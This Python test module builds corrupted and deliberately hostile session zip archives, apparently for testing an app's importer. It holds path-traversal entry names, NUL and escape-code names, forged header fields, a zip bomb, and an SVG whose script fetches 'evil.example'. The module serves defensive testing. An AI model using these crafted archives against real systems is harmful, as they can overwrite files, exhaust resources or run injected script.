"""Session files that come broken in the zip or in the seal, by chance or by ill will."""

from __future__ import annotations

import io
import struct
import warnings
from functools import cache
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

from tests.fakes.parcels import Breaking, Honest, flac, packed, resigned

_CENTRAL, _LOCAL, _END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"


# By chance: refused, or the same session as before.


def flipped(chance: Random, honest: Honest) -> bytes:
    content = bytearray(honest.content)
    for _ in range(chance.choice([1, 1, 1, 2, 8, 64])):
        content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
    return bytes(content)


def cut(chance: Random, honest: Honest) -> bytes:
    return honest.content[: chance.randrange(len(honest.content))]


def spliced(chance: Random, honest: Honest) -> bytes:
    """A stretch of it left out, written twice, or exchanged with another one."""
    content = honest.content
    a, b, c = sorted(chance.randrange(len(content) + 1) for _ in range(3))
    return chance.choice(
        [content[:a] + content[b:], content[:b] + content[a:], content[:a] + content[b:c] + content[a:b] + content[c:]]
    )


def overwritten(chance: Random, honest: Honest) -> bytes:
    content = bytearray(honest.content)
    at, length = chance.randrange(len(content)), chance.choice([1, 2, 4, 100, 512])
    content[at : at + length] = chance.choice([bytes(length), b"\xff" * length, chance.randbytes(length)])
    return bytes(content)


def surrounded(chance: Random, honest: Honest) -> bytes:
    other = chance.choice([b"\0", b"\r\n", chance.randbytes(100), honest.content, honest.content[-22:]])
    return chance.choice([other + honest.content, honest.content + other])


def flipped_directory(chance: Random, honest: Honest) -> bytes:
    """In the few bytes that a reader of zips believes most."""
    content = bytearray(honest.content)
    start = content.index(_CENTRAL)
    for _ in range(chance.choice([1, 2, 3])):
        content[chance.randrange(start, len(content))] = chance.choice([0, 1, 0x7F, 0x80, 0xFF, chance.randrange(256)])
    return bytes(content)


def foreign_picture(chance: Random, honest: Honest) -> bytes:
    """Never shown: the picture is drawn anew."""
    script = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example")</script></svg>'
    return resigned(honest.files | {"trajectory.svg": chance.choice([script, b"", chance.randbytes(1000)])})


BY_CHANCE: tuple[Breaking, ...] = (
    *(flipped, cut, spliced, overwritten, surrounded, flipped_directory, foreign_picture),
)


# By ill will, in the zip: always refused.

HOSTILE_NAMES = (
    *("../evil", "../../evil", "/etc/evil", "C:/evil", "..\\evil", "evil", "a/session.flac", "./entry.json", ""),
    *("entry.json/", "ENTRY.JSON", "session.flac ", "session.wav", "nul", "ev\x1b[2Jil", "ev\u202eil", "x" * 5000),
)


def hostile_name(chance: Random, honest: Honest) -> bytes:
    return resigned(honest.files | {chance.choice(HOSTILE_NAMES): b"evil"})


def nul_in_a_name(chance: Random, honest: Honest) -> bytes:
    """zipfile would cut it off there."""
    name = chance.choice(["entry.jsonQ/x", "session.midQ../evil"])
    files = {inside: content for inside, content in honest.files.items() if not name.startswith(inside)}
    return packed(files | {name: b"evil"}).replace(b"Q", b"\0")


def twice(chance: Random, honest: Honest) -> bytes:
    content = io.BytesIO(honest.content)
    name = chance.choice([*honest.files])
    with warnings.catch_warnings(), ZipFile(content, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, chance.choice([b"{}", honest.files[name]]))
    return content.getvalue()


def crowd(chance: Random, honest: Honest) -> bytes:
    return packed(honest.files | {f"{number}.txt": b"" for number in range(chance.choice([1, 10, 1000, 3000]))})


def missing(chance: Random, honest: Honest) -> bytes:
    lost = chance.choice([*honest.files])
    return packed({name: content for name, content in honest.files.items() if name != lost})


def patched(chance: Random, honest: Honest) -> bytes:
    """Each header says the same untruth: of flags, method, CRC, sizes or places."""
    central, local, value = chance.choice(
        [
            *[(8, 6, struct.pack("<H", flag)) for flag in (0x01, 0x41, 0x20)],
            *[(10, 8, struct.pack("<H", method)) for method in (1, 6, 9, 12, 14, 93, 95, 99)],
            (16, 14, chance.randbytes(4)),
            *[(20, 18, struct.pack("<I", size)) for size in (0, 1, 2**31, 2**32 - 1)],
            *[(24, 22, struct.pack("<I", size)) for size in (0, 1, 99, 2**31, 2**32 - 2, 2**32 - 1)],
            *[(42, -1, struct.pack("<I", place)) for place in (0, 1, 2**31, 2**32 - 2, 2**32 - 1)],
        ]
    )
    content = _at_each(honest.content, _CENTRAL, central, value)
    return content if local < 0 else _at_each(content, _LOCAL, local, value)


def vast_directory(chance: Random, honest: Honest) -> bytes:
    """Of gigabytes that are not there, or beyond the end."""
    content = bytearray(honest.content)
    place = content.rindex(_END) + chance.choice([12, 16])
    return bytes(content[:place] + struct.pack("<I", chance.choice([2**32 - 2, 2**31, 10**8])) + content[place + 4 :])


def oddly_packed(chance: Random, honest: Honest) -> bytes:
    if chance.random() < 0.5:
        return packed(honest.files, chance.choice([ZIP_BZIP2, ZIP_LZMA]))
    content = io.BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:  # also the sound, which could swell then
        for name, inside in honest.files.items():
            archive.writestr(name, inside)
    return content.getvalue()


def bomb(chance: Random, _: Honest) -> bytes:
    """A few kilobytes that would become tens of megabytes, as declared, or declared as little."""
    name = chance.choice(["manifest.json", "entry.json", "session.json", "session.mid", "trajectory.svg"])
    content = _bomb(name)
    little = _at_each(_at_each(content, _CENTRAL, 24, b"\x64\0\0\0"), _LOCAL, 22, b"\x64\0\0\0")
    return chance.choice([content, little])


def something_else(chance: Random, _: Honest) -> bytes:
    return chance.choice(
        [
            *(b"", b"PK", _LOCAL, b"PK\x05\x06" + bytes(18), b"\xff\xd8\xff\xe0", b"<html></html>", b"{}", flac()),
            *(chance.randbytes(chance.randrange(3000)), _LOCAL + chance.randbytes(500), packed({"beach.jpg": b"x"})),
        ]
    )


IN_THE_ZIP: tuple[Breaking, ...] = (
    *(hostile_name, nul_in_a_name, twice, crowd, missing, patched, vast_directory, oddly_packed, bomb, something_else),
)


# What a passphrase locks: always refused.


def broken_seal(chance: Random, honest: Honest) -> bytes:
    """The magic, or another version of it: found before the passphrase is tried."""
    content = bytearray(honest.sealed)
    content[chance.randrange(16)] ^= 1 << chance.randrange(8)
    return bytes(content)


def broken_inside(chance: Random, honest: Honest) -> bytes:
    """Only the passphrase can tell, which takes a third of a second."""
    if chance.random() < 0.3:
        return honest.sealed[: chance.randrange(16, len(honest.sealed))]
    content = bytearray(honest.sealed)
    content[chance.randrange(16, len(content))] ^= 1 << chance.randrange(8)
    return bytes(content)


def _at_each(content: bytes, signature: bytes, place: int, value: bytes) -> bytes:
    """Each header of that kind with other bytes at a place."""
    changed = bytearray(content)
    at = changed.find(signature)
    while at >= 0:
        changed[at + place : at + place + len(value)] = value
        at = changed.find(signature, at + 4)
    return bytes(changed)


@cache
def _bomb(name: str) -> bytes:
    files = {name: bytes(30_000_000)}
    return packed({"manifest.json": b"{}", "entry.json": b"{}", "session.json": b"{}"} | files, ZIP_DEFLATED)
